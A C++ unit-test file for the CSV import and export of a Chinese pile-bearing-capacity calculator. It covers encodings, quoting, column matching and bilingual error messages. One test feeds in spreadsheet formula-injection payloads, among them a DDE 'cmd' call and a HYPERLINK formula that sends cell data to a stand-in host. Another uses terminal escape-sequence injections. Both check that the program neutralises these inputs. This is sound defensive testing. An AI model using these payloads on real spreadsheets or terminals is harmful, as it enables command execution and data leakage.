#include "pile_csv.h"

#include "calculation.h"
#include "pile_file_error.h"
#include "sample_piles.h"

#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <map>
#include <tuple>

namespace {

std::string FileBytes(const std::string &name)
{
    std::ifstream file(std::string(PILECALC_TEST_DATA) + "/piles/" + name, std::ios::binary);
    EXPECT_TRUE(file) << name;
    return {std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
}

// A CSV text of the given lines, "\r\n" after each.
std::string Csv(std::initializer_list<std::string> lines)
{
    std::string text;
    for (const std::string &line : lines)
        text += line + "\r\n";
    return text;
}

TEST(PileCsv, PilesComeBackAsTheyWereWritten)
{
    const std::vector<TPileInput> piles = SamplePiles();
    EXPECT_EQ(PilesFromCsv(PilesToCsv(piles)), piles);
    EXPECT_TRUE(PilesFromCsv(PilesToCsv({})).empty());
}

TEST(PileCsv, WritesUtf8WithByteOrderMarkAndCrLf)
{
    TPileInput square;
    square.sectionType = TSectionType::Square;
    square.d = "1,200";
    const std::string text = PilesToCsv({TPileInput(), square});
    ASSERT_TRUE(
        text.starts_with("\xEF\xBB\xBF桩号,截面类型,d,c,侧阻端阻系数,系数插值依据,钻孔桩,精度,"
                         "土层1厚度 li,土层1侧阻 qik,土层2厚度 li,"));
    EXPECT_NE(text.find(",岩层1嵌岩厚度 hi,岩层1风化程度,岩层1完整程度,岩层1完整性指数 Kv,岩层1 "
                        "frk,岩层1 c1,岩层1 c2,岩层2嵌岩厚度 hi,"),
              std::string::npos);
    const std::string firstRow =
        "\r\nZH1,圆桩,1000,0,程序自动插值,岩体完整程度,是,个位取整,5.00,200.00"
        + std::string(8 * 2, ',') + ",1.00,中风化,较完整,0.75,25.00,0.50,0.04"
        + std::string(8 * 7, ',') + ",1,1\r\n";
    EXPECT_NE(text.find(firstRow), std::string::npos);
    // A square is entered as a rectangle; a text with a comma is quoted.
    EXPECT_NE(text.find("\r\nZH2,矩形桩,\"1,200\",0,"), std::string::npos);
    EXPECT_EQ(PileCsvColumns().size(), 8u + 9 * 2 + 9 * 7 + 2);
    EXPECT_EQ(PileCsvColumns().back(), "岩层数");
    std::size_t lines = 0;
    for (std::size_t at = text.find('\n'); at != std::string::npos; at = text.find('\n', at + 1)) {
        EXPECT_EQ(text[at - 1], '\r');
        ++lines;
    }
    EXPECT_EQ(lines, 3u);
}

TEST(PileCsv, ExcelGbkAndUtf8WithByteOrderMarkReadTheSamePiles)
{
    const std::vector<TPileInput> gbk = PilesFromCsv(FileBytes("excel_gbk.csv"));
    const std::vector<TPileInput> utf8 = PilesFromCsv(FileBytes("utf8_bom.csv"));
    EXPECT_EQ(gbk, utf8);
    ASSERT_EQ(utf8.size(), 3u);
    EXPECT_EQ(utf8[0].sectionType, TSectionType::Ellipse);
    EXPECT_EQ(utf8[0].d, "1200");
    EXPECT_EQ(utf8[0].c, "500");
    ASSERT_EQ(utf8[0].soilLayers.size(), 2u);
    EXPECT_EQ(utf8[0].soilLayers[1].qik, "120");
    ASSERT_EQ(utf8[0].rockLayers.size(), 2u);
    EXPECT_EQ(utf8[0].rockLayers[1].weathering, "微风化");
    EXPECT_EQ(utf8[1].sectionType, TSectionType::Rectangle);
    EXPECT_EQ(utf8[1].coefMode, TCoefMode::Specified);
    EXPECT_TRUE(utf8[1].soilLayers.empty());
    EXPECT_EQ(utf8[1].rockLayers[0].c1Specified, "0.6");
    EXPECT_FALSE(utf8[1].boredPile);
    EXPECT_EQ(utf8[2].rounding, TRoundingMode::Tens);
    EXPECT_EQ(utf8[2].rockLayers[0].frk, "3"); // Excel shows 3.00 as 3
}

TEST(PileCsv, MissingColumnsTakeTheDefaultsAndLayersCountUpToTheLastFilledCell)
{
    const std::vector<TPileInput> piles = PilesFromCsv(Csv({
        "截面类型,d,土层1厚度 li,土层3侧阻 qik,岩层2 frk,精度",
        "矩形桩,1500,,,,",
        ",,4.0,,,",
        ",,,90,30,两位小数",
        ",,,,,",
        "",
    }));
    ASSERT_EQ(piles.size(), 3u); // rows without a filled cell are left out
    const TPileInput defaults;
    // A missing column is its default: c follows the section, the modes and the soil qik of the
    // first layer stay; present but empty cells are empty texts.
    EXPECT_EQ(piles[0].sectionType, TSectionType::Rectangle);
    EXPECT_EQ(piles[0].c, "1000");
    EXPECT_EQ(piles[0].coefMode, defaults.coefMode);
    EXPECT_TRUE(piles[0].soilLayers.empty());
    EXPECT_EQ(piles[0].rockLayers, defaults.rockLayers); // 岩层2 frk empty: one layer, the default
    EXPECT_EQ(piles[1].sectionType, TSectionType::Circle);
    EXPECT_EQ(piles[1].d, "");
    EXPECT_EQ(piles[1].c, "0");
    EXPECT_EQ(piles[1].soilLayers, (std::vector<TSoilLayer> {{"4.0", "200.00"}}));
    EXPECT_EQ(piles[2].soilLayers,
              (std::vector<TSoilLayer> {{"", "200.00"}, {"", ""}, {"", "90"}}));
    ASSERT_EQ(piles[2].rockLayers.size(), 2u);
    EXPECT_EQ(piles[2].rockLayers[0], defaults.rockLayers[0]);
    EXPECT_EQ(piles[2].rockLayers[1], (TRockLayer {"", "", "", "", "30", "", ""}));
    EXPECT_EQ(piles[2].rounding, TRoundingMode::TwoDecimals);
}

TEST(PileCsv, ColumnNamesIgnoreBlanksAndCaseAndTextsKeepTheirBlanks)
{
    const std::vector<TPileInput> piles = PilesFromCsv(Csv({
        " 截面类型 ,D,岩层1FRK,岩层1完整性指数KV,桩号",
        "椭圆桩, 1200 ,\" 30\",0.5,任意",
    }));
    ASSERT_EQ(piles.size(), 1u);
    EXPECT_EQ(piles[0].d, " 1200 ");
    EXPECT_EQ(piles[0].rockLayers[0].frk, " 30");
    EXPECT_EQ(piles[0].rockLayers[0].integrityIndex, "0.5");
    EXPECT_EQ(piles[0].rockLayers[0].hi, "1.00");
}

TEST(PileCsv, UnusableTablesNameRowAndColumn)
{
    const std::pair<std::string, std::string> cases[] = {
        {"", "the table has no header row"},
        {Csv({"d,直径", "1000,1"}), "row 1, column B: unknown column \"直径\""},
        {Csv({"d,c,D", "1,2,3"}), "row 1, column C: column \"D\" stands already in column A"},
        {Csv({"d,c", "1000,0,5"}),
         "row 2, column C: a cell beyond the last column of the header (column B)"},
        {Csv({"d,,c", "1000,x,0"}), "row 2, column B: a filled cell under a column without a name"},
        {Csv({"d,截面类型", "1000,方桩"}),
         "row 2, column B (截面类型): \"方桩\" is not one of \"圆桩\", \"椭圆桩\", \"矩形桩\""},
        {Csv({"d", "1", "", "2", "\"3\"x"}),
         "row 5: a quote out of place (a quoted cell must be closed and stand alone between "
         "commas, a quote inside it doubled)"},
        // A record is one row, however many lines its quoted cells span.
        {Csv({"d,", "\"1\n2\",", "4,x"}), "row 3, column B: a filled cell under a column"},
        {Csv({"桩号,截面类型", "\"line1\nline2\nline3\",圆桩", "B,方桩"}),
         "row 3, column B (截面类型): \"方桩\" is not one of"},
        {Csv({"钻孔桩", "是", "1"}),
         "row 3, column A (钻孔桩): \"1\" is not one of \"是\", \"否\""},
        {Csv({"精度", "整数"}),
         "row 2, column A (精度): \"整数\" is not one of \"两位小数\", \"一位小数\", \"个位取整\", "
         "\"十位取整\", \"百位取整\""},
        {Csv({"岩层10 frk", "1"}), "row 1, column A: unknown column \"岩层10 frk\""},
        {"d\r\n\"1", "row 2: a quote out of place"},
    };
    for (const auto &[text, message] : cases) {
        SCOPED_TRACE(text);
        try {
            PilesFromCsv(text);
            ADD_FAILURE() << "accepted";
        } catch (const TPileFileError &error) {
            EXPECT_TRUE(std::string(error.what()).starts_with(message)) << error.what();
        }
    }
}

// Texts a spreadsheet would run as formulas are written behind an apostrophe, which reading
// removes again; empty layers stay, so the piles calculate as before.
TEST(PileCsv, EveryTextAndEveryLayerComesBackThroughTheTable)
{
    const std::string formulas[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
                                    "=cmd|' /C calc'!A0",
                                    "@SUM(1+1)",
                                    "+1+2",
                                    "-x",
                                    "\tx",
                                    "\rx",
                                    "'=x",
                                    "''@y"};
    std::vector<TPileInput> piles;
    for (const std::string &text : formulas) {
        TPileInput pile;
        pile.coefMode = TCoefMode::Specified;
        pile.rockLayers[0].c1Specified = text;
        piles.push_back(pile);
    }
    TPileInput emptyLayers; // fails: its second rock layer is empty
    emptyLayers.soilLayers.push_back({});
    emptyLayers.rockLayers.push_back({});
    piles.push_back(emptyLayers);
    TPileInput numbers;
    numbers.d = "-5";
    numbers.c = "+3.5e2";
    numbers.soilLayers.clear();
    piles.push_back(numbers);

    const std::string text = PilesToCsv(piles);
    EXPECT_EQ(PilesFromCsv(text), piles);
    EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,"), std::string::npos);
    EXPECT_NE(text.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\","),
              std::string::npos);
    EXPECT_NE(text.find(",'@SUM(1+1),"), std::string::npos);
    EXPECT_NE(text.find(",''=x,"), std::string::npos);
    EXPECT_NE(text.find(",'\tx,"), std::string::npos);
    EXPECT_NE(text.find("ZH11,圆桩,-5,+3.5e2,"), std::string::npos); // numbers stay numbers
    const TCalcOutcome before = Calculate(emptyLayers);
    ASSERT_FALSE(before.ok());
    const TCalcOutcome after = Calculate(PilesFromCsv(text)[9]);
    ASSERT_FALSE(after.ok());
    EXPECT_EQ(after.failure->message, before.failure->message);
}

TEST(PileCsv, LayerCountsAndTrailingEmptyCells)
{
    const std::vector<TPileInput> piles = PilesFromCsv(Csv({
        "d,岩层数,岩层1 frk,土层数",
        "1200,2,30,,,,",
        "1300,,31,0",
    }));
    ASSERT_EQ(piles.size(), 2u);
    ASSERT_EQ(piles[0].rockLayers.size(), 2u);
    EXPECT_EQ(piles[0].rockLayers[0].frk, "30");
    EXPECT_EQ(piles[0].rockLayers[0].hi, "1.00"); // a missing column keeps its default
    EXPECT_EQ(piles[0].rockLayers[1], TRockLayer {});
    EXPECT_EQ(piles[0].soilLayers, TPileInput().soilLayers); // an empty count: the old rule
    EXPECT_EQ(piles[1].rockLayers.size(), 1u);
    EXPECT_TRUE(piles[1].soilLayers.empty());

    const std::pair<std::string, std::string> refused[] = {
        {Csv({"岩层数", "0"}),
         "row 2, column A (岩层数): \"0\" is not a number of layers from 1 to 9"},
        {Csv({"土层数", "10"}),
         "row 2, column A (土层数): \"10\" is not a number of layers from 0 to 9"},
        {Csv({"土层数,土层2厚度 li", "1,5"}),
         "row 2, column B (土层2厚度 li): a filled cell beyond the 1 layers of 土层数 (column A)"},
    };
    for (const auto &[table, message] : refused) {
        SCOPED_TRACE(table);
        try {
            PilesFromCsv(table);
            ADD_FAILURE() << "accepted";
        } catch (const TPileFileError &error) {
            EXPECT_EQ(error.what(), message);
        }
    }
}

TEST(PileCsv, ExcelUnicodeTextIsReadInEitherByteOrder)
{
    const std::u16string text = u"d\t截面类型\t岩层1 frk\r\n1200\t矩形桩\t\"3,5\"\r\n";
    std::string little = "\xFF\xFE";
    std::string big = "\xFE\xFF";
    for (const char16_t unit : text) {
        little += {static_cast<char>(unit & 0xFF), static_cast<char>(unit >> 8)};
        big += {static_cast<char>(unit >> 8), static_cast<char>(unit & 0xFF)};
    }
    for (const std::string &bytes : {little, big}) {
        const std::vector<TPileInput> piles = PilesFromCsv(bytes);
        ASSERT_EQ(piles.size(), 1u);
        EXPECT_EQ(piles[0].d, "1200");
        EXPECT_EQ(piles[0].sectionType, TSectionType::Rectangle);
        EXPECT_EQ(piles[0].rockLayers[0].frk, "3,5");
    }
    EXPECT_THROW(PilesFromCsv(little + "x"), TPileFileError); // an odd number of bytes
    EXPECT_THROW(PilesFromCsv("\xFF\xFE\x00\xDC"), TPileFileError); // a lone surrogate
}

TEST(PileCsv, MessagesInChineseAndWithoutControlCharacters)
{
    const std::tuple<std::string, std::string, std::string> cases[] = {
        {Csv({"d,截面类型", "1000,方桩"}),
         "row 2, column B (截面类型): \"方桩\" is not one of \"圆桩\", \"椭圆桩\", \"矩形桩\"",
         "第 2 行第 B 列（截面类型）：“方桩”不是“圆桩”、“椭圆桩”、“矩形桩”之一"},
        {Csv({"d,\x1b]0;owned\x07\x1b[2J"}),
         "row 1, column B: unknown column \"\\x1b]0;owned\\x07\\x1b[2J\"",
         "第 1 行第 B 列：未知的列名“\\x1b]0;owned\\x07\\x1b[2J”"},
        {Csv({"精度", std::string("a\0b\xC2\x9B", 5)}),
         "row 2, column A (精度): \"a\\x00b\\u009b\" is not one of",
         "第 2 行第 A 列（精度）：“a\\x00b\\u009b”不是"},
        {Csv({"d,c", "1000,0,5"}),
         "row 2, column C: a cell beyond the last column of the header (column B)",
         "第 2 行第 C 列：超出表头最后一列（第 B 列）的单元格"},
        {Csv({"d", "\"1"}), "row 2: a quote out of place", "第 2 行：引号位置不对"},
        {"", "the table has no header row", "表格没有表头行"},
    };
    for (const auto &[text, english, chinese] : cases) {
        SCOPED_TRACE(english);
        try {
            PilesFromCsv(text);
            ADD_FAILURE() << "accepted";
        } catch (const TPileFileError &error) {
            EXPECT_TRUE(std::string(error.what()).starts_with(english)) << error.what();
            EXPECT_TRUE(error.Chinese().starts_with(chinese)) << error.Chinese();
        }
    }
}

// A failed calculation is reported at the cell of the table it names.
TEST(PileCsv, FailuresNameTheirCell)
{
    const std::pair<std::string, std::string> cases[] = {
        {"abc,30,1.0", "row 3, column A (d)"},
        {"1000,x,1.0", "row 3, column B (岩层1 frk)"},
        {"1000,30,-1", "row 3, column C (土层1厚度 li)"},
        {"1000,30,1.0,,,", ""},
    };
    for (const auto &[row, place] : cases) {
        SCOPED_TRACE(row);
        int calculated = 0;
        ReadCsvPiles(Csv({"d,岩层1 frk,土层1厚度 li", "", row}),
                     [&](const TPileInput &pile, const TPileOrigin &origin) {
                         ++calculated;
                         EXPECT_EQ(origin.row, 3);
                         const TCalcOutcome outcome = Calculate(pile);
                         if (place.empty()) {
                             EXPECT_TRUE(outcome.ok());
                             return;
                         }
                         ASSERT_FALSE(outcome.ok());
                         EXPECT_EQ(FailurePlace(origin, *outcome.failure).first, place);
                     });
        EXPECT_EQ(calculated, 1);
    }
    TCalcFailure result;
    result.stage = TFailureStage::Result;
    const std::map<std::string, std::size_t> columns;
    EXPECT_EQ(FailurePlace({4, &columns}, result),
              (std::pair<std::string, std::string> {"row 4", "第 4 行"}));
    EXPECT_EQ(FailurePlace({}, result).first, "");
}

} // namespace
